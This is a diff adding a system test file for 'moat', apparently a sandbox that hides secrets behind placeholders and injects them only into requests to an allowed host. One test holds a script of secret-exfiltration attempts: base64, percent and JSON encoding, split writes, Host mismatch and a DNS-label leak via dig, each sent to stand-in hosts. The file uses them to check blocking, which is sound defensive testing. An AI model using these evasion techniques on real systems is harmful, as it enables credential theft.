@@ -1,0 +1,144 @@
+// secrets.test.ts — secret injection with real clients inside the sandbox and a real HTTPS
+// server in the world that records every request it receives: the allowed host gets the value
+// (header, Basic auth; curl, python3, node), nothing else ever gets the value or the placeholder.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { mkdtempSync, writeFileSync, readFileSync, rmSync, existsSync } from "node:fs";
+import { World, WORLD_IP4, TESTBED_JS, systemTestSkipReason } from "../testbed/world.js";
+
+const skip = systemTestSkipReason() ?? (has("curl", "--version") && has("openssl", "version") ? undefined : "curl or openssl is not installed");
+const VALUE = "sk-live-THE-REAL-VALUE-0123456789";
+let world: World;
+let dir = "";
+let record = "";
+
+function has(cmd: string, arg: string): boolean {
+  try {
+    execFileSync(cmd, [arg], { stdio: "ignore" });
+    return true;
+  } catch {
+    return false;
+  }
+}
+
+before(async () => {
+  if (skip) return;
+  dir = mkdtempSync("/tmp/moat-secrets-");
+  record = `${dir}/record.jsonl`;
+  const openssl = (...a: string[]) => execFileSync("openssl", a, { stdio: ["ignore", "ignore", "pipe"], cwd: dir });
+  openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "ca.key", "-out", "ca.pem", "-days", "2", "-subj", "/CN=world test CA",
+    "-addext", "basicConstraints=critical,CA:TRUE", "-addext", "keyUsage=critical,keyCertSign");
+  openssl("req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-keyout", "srv.key", "-out", "srv.csr", "-subj", "/CN=allowed.test");
+  writeFileSync(`${dir}/ext.cnf`, `subjectAltName=DNS:allowed.test,DNS:other.test,IP:${WORLD_IP4}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n`);
+  openssl("x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-out", "srv.pem", "-days", "2", "-extfile", "ext.cnf");
+  world = World.create();
+  world.startDnsServer();
+  await world.startProcess([process.execPath, `${TESTBED_JS}servers.js`, "https", "443", `${dir}/srv.pem`, `${dir}/srv.key`, record]);
+});
+after(() => {
+  world?.teardown();
+  if (dir) rmSync(dir, { recursive: true, force: true });
+});
+
+/** moat run with API_KEY for allowed.test, its value in moat's environment as REAL_KEY. */
+function run(script: string, extra: string[] = []) {
+  process.env.REAL_KEY = VALUE; // inherited by moat, never by the sandbox
+  return world.moat(["run", "--dns-nameserver", WORLD_IP4, "--tls-upstream-ca", `${dir}/ca.pem`, "--secret", "API_KEY=REAL_KEY@allowed.test", ...extra, "--", "sh", "-c", script], 60000);
+}
+
+function records(): { url: string; headers: Record<string, string>; body: string }[] {
+  return existsSync(record) ? readFileSync(record, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l)) : [];
+}
+
+/** Every request the server saw since `from`, as text. */
+function seenSince(from: number): string {
+  return records().slice(from).map((r) => JSON.stringify(r)).join("\n");
+}
+
+test("the command sees only a placeholder: not in its environment, not in /proc", { skip }, async () => {
+  const r = await run(`echo "API_KEY=$API_KEY REAL_KEY=$REAL_KEY"; cat /proc/self/environ | tr '\\0' '\\n' | grep -c -- "${VALUE}" || true`);
+  assert.equal(r.code, 0, r.stderr);
+  assert.match(r.stdout, /^API_KEY=moat-ph-[a-z0-9]{24} REAL_KEY=\n0\n$/);
+  assert.doesNotMatch(r.stdout + r.stderr, new RegExp(VALUE));
+});
+
+test("the allowed host receives the value in a header and in Basic auth, from curl, python3 and node; HTTP/2 clients too", { skip }, async () => {
+  const from = records().length;
+  writeFileSync(`${dir}/c.py`, `import os, urllib.request
+req = urllib.request.Request('https://allowed.test/py', headers={'X-Api-Key': os.environ['API_KEY']})
+print(urllib.request.urlopen(req).status)`);
+  writeFileSync(`${dir}/c.js`, `require('https').get('https://allowed.test/node', { headers: { authorization: 'Bearer ' + process.env.API_KEY } }, (r) => { r.resume(); r.on('end', () => console.log(r.statusCode)); })`);
+  const r = await run(`curl -sS -o /dev/null -H "Authorization: Bearer $API_KEY" https://allowed.test/curl-header; curl -sS -o /dev/null -u "me:$API_KEY" https://allowed.test/curl-basic; curl -sS -o /dev/null --http2 -H "X-Key: $API_KEY" https://allowed.test/curl-h2; python3 ${dir}/c.py; node ${dir}/c.js`);
+  assert.equal(r.code, 0, r.stderr);
+  const seen = records().slice(from);
+  const by = (url: string) => seen.find((x) => x.url === url)?.headers;
+  assert.equal(by("/curl-header")?.authorization, `Bearer ${VALUE}`);
+  assert.equal(Buffer.from(by("/curl-basic")!.authorization!.replace(/^Basic /, ""), "base64").toString(), `me:${VALUE}`);
+  assert.equal(by("/curl-h2")?.["x-key"], VALUE, "an HTTP/2 client is served over HTTP/1.1 and substituted");
+  assert.equal(by("/py")?.["x-api-key"], VALUE);
+  assert.equal(by("/node")?.authorization, `Bearer ${VALUE}`);
+  assert.doesNotMatch(JSON.stringify(seen), /moat-ph-/, "no placeholder reached the server");
+});
+
+test("exfiltration attempts never deliver the value or the placeholder anywhere", { skip }, async () => {
+  const from = records().length;
+  const audit = `${dir}/audit-exfil.jsonl`;
+  writeFileSync(`${dir}/exfil.py`, `import os, ssl, socket, time, json, base64, urllib.parse
+k = os.environ['API_KEY']
+ctx = ssl.create_default_context()
+def raw(host, chunks, sni=None):
+    s = ctx.wrap_socket(socket.create_connection(('${WORLD_IP4}', 443)), server_hostname=sni or host)
+    for c in chunks:
+        s.sendall(c.encode()); time.sleep(0.05)
+    try:
+        print(host, repr(s.recv(200)[:40]))
+    except Exception as e:
+        print(host, type(e).__name__)
+req = lambda host, path, hdr='', body='': 'POST %s HTTP/1.1\\r\\nHost: %s\\r\\n%sContent-Length: %d\\r\\n\\r\\n%s' % (path, host, hdr, len(body), body)
+raw('other.test', [req('other.test', '/hdr', 'X-K: %s\\r\\n' % k)])
+raw('allowed.test', [req('allowed.test', '/q?k=' + k)])
+raw('allowed.test', [req('allowed.test', '/body', body='key=' + k)])
+raw('other.test', [req('other.test', '/b64', body=base64.b64encode(('x' + k).encode()).decode())])
+raw('other.test', [req('other.test', '/pct', body=''.join('%%%02X' % ord(c) for c in k))])
+raw('allowed.test', [req('allowed.test', '/json', body=json.dumps({'k': k}, ensure_ascii=True).replace(k, ''.join('\\\\u%04x' % ord(c) for c in k)))])
+r = req('other.test', '/split', 'X-K: %s\\r\\n' % k); i = r.index(k) + 10
+raw('other.test', [r[:i], r[i:]])
+raw('allowed.test', [req('other.test', '/host-mismatch', 'X-K: %s\\r\\n' % k)])
+`);
+  const r = await run(`python3 ${dir}/exfil.py; dig +short $API_KEY.allowed.test; curl -sS --resolve allowed.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://allowed.test/no-dns-lookup; echo`,
+    ["--secret-violation", "block-and-log", "--audit-log", audit]);
+  assert.equal(r.code, 0, r.stderr);
+  const lines = r.stdout.trim().split("\n");
+  const blocked = lines.filter((l) => /403 Forbidden|ConnectionResetError|b''/.test(l)).length;
+  assert.equal(blocked, 8, `every attempt was stopped:\n${r.stdout}`);
+  const seen = seenSince(from);
+  assert.doesNotMatch(seen, new RegExp(VALUE), `the value reached the server:\n${seen}`);
+  assert.doesNotMatch(seen, /moat-ph-/, `a placeholder reached the server:\n${seen}`);
+  assert.doesNotMatch(seen, /"url":"\/(hdr|q|body|b64|pct|json|split|host-mismatch)/, `a blocked request reached the server:\n${seen}`);
+  const events = existsSync(audit) ? readFileSync(audit, "utf8").split("\n").filter(Boolean).map((l) => JSON.parse(l) as { kind: string; name: string; detail: string; repeated?: number }) : [];
+  const v = events.filter((e) => e.kind === "secret-violation");
+  // (Repeats of one event are written once more as a summary with their count.)
+  assert.equal(v.reduce((n, e) => n + (e.repeated ?? 1), 0), 10, `audit: ${JSON.stringify(events)}`);
+  assert.ok(v.every((e) => e.name === "API_KEY"));
+  for (const form of ["raw", "base64", "percent-encoded", "JSON-escaped"]) assert.ok(v.some((e) => e.detail.startsWith(form)), `a ${form} violation`);
+  assert.ok(v.some((e) => /query name/.test(e.detail)), "the DNS name");
+  assert.doesNotMatch(readFileSync(audit, "utf8"), new RegExp(VALUE), "never the value in the audit log");
+});
+
+test("block-and-terminate: the command is killed, the sandbox destroyed, moat exits 125 saying why", { skip }, async () => {
+  const r = await run(`curl -sS --resolve other.test:443:${WORLD_IP4} -H "X-K: $API_KEY" https://other.test/x; sleep 20; echo survived`, ["--secret-violation", "block-and-terminate"]);
+  assert.equal(r.code, 125, r.stderr);
+  assert.doesNotMatch(r.stdout, /survived/);
+  assert.match(r.stderr, /sandbox terminated: secret API_KEY's placeholder was sent to 203\.0\.113\.10:443/);
+});
+
+test("a secret's value must come from moat's environment, and a secret host cannot be bypassed", { skip }, async () => {
+  delete process.env.NO_SUCH_KEY;
+  const missing = await world.moat(["run", "--secret", "NO_SUCH_KEY@allowed.test", "--", "true"]);
+  assert.equal(missing.code, 2);
+  assert.match(missing.stderr, /moat's environment has no NO_SUCH_KEY/);
+  const bypassed = await run("true", ["--tls-bypass", "*.test"]);
+  assert.equal(bypassed.code, 2);
+  assert.match(bypassed.stderr, /secret API_KEY is for allowed\.test, which --tls-bypass passes through untouched/);
+});
